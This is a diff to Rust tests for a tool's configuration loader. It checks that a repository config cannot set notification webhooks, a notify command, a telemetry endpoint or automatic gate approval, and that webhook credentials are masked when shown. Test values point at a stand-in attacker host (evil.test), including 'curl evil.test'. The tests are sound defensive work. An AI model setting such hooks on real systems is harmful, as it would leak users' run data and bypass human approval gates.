@@ -113,7 +113,14 @@ fn a_later_layer_wins_key_by_key_and_each_value_has_its_origin() {
         "limits.dispatches = 8 (variable REMAND_LIMITS_DISPATCHES)",
         "limits.money = 12.5 (repository/remand.toml:4:3)",
         "limits.time = \"1h30m\" (flag --set)",
+        "mcp.may-answer = [] (built in)",
         "mode = \"interactive\" (home/.config/remand/config.toml:1:1)",
+        "notify.desktop = false (built in)",
+        "notify.form = \"json\" (built in)",
+        "notify.on = [\"gate\", \"limit\", \"over\", \"silent\"] (built in)",
+        "notify.silent-after = \"5m\" (built in)",
+        "notify.terminal = \"off\" (built in)",
+        "notify.texts = false (built in)",
         "rounds.diverge-beyond = 2 (built in)",
         "rounds.gaps = 7 (built in)",
         "rounds.least = 100 (built in)",
@@ -152,7 +159,7 @@ fn unknown_keys_are_refused_with_their_position_and_the_most_similar_key() {
     assert_eq!(
         refusal("[commit]\nsign = true\n"),
         "1:2: unknown key `commit`; use one of: workflow, mode, agent, model, at-once, conventions, limits, sandbox, changes, rounds, state, \
-         secrets, checks, roles, agents, prices"
+         secrets, notify, telemetry, mcp, checks, roles, agents, prices"
     );
     assert_eq!(
         refusal("[roles]\nmodel = \"x\"\n"),
@@ -366,6 +373,33 @@ fn a_repository_cannot_choose_the_state_folder() {
         "2:7: `state.dir`: a repository cannot choose your state folder; move `state.dir` to \
          ~/.config/remand/config.toml"
     );
+}
+
+// BY-09, BY-10, BY-12
+#[test]
+fn a_repository_cannot_send_anything_anywhere_or_let_a_program_answer() {
+    for (key, value, what) in [
+        ("notify.webhook", "\"https://evil.test/\"", "whom Remand tells about your runs"),
+        ("notify.command", "\"curl evil.test\"", "whom Remand tells about your runs"),
+        ("telemetry.endpoint", "\"https://evil.test/\"", "where Remand sends your traces"),
+        ("mcp.may-answer", "[\"approve-plan\"]", "which gates a program may answer for you"),
+    ] {
+        let text = format!("{key} = {value}\n");
+        let expected = format!(
+            "`{key}`: a repository cannot choose {what}; move `{key}` to ~/.config/remand/config.toml"
+        );
+        let refused = refusal(&text);
+        assert!(refused.ends_with(&expected), "{refused}");
+        Home::new().user(&text).load();
+    }
+}
+
+// BY-12
+#[test]
+fn the_secret_part_of_an_address_is_not_shown() {
+    let config = Home::new().user("notify.webhook = \"https://me:pw@hooks.test/T0/SECRET?k=1\"\n").load();
+    let shown = config.origins().into_iter().find(|value| value.key == "notify.webhook").expect("the value");
+    assert_eq!(shown.value, "\"https://hooks.test/…\"");
 }
 
 #[test]
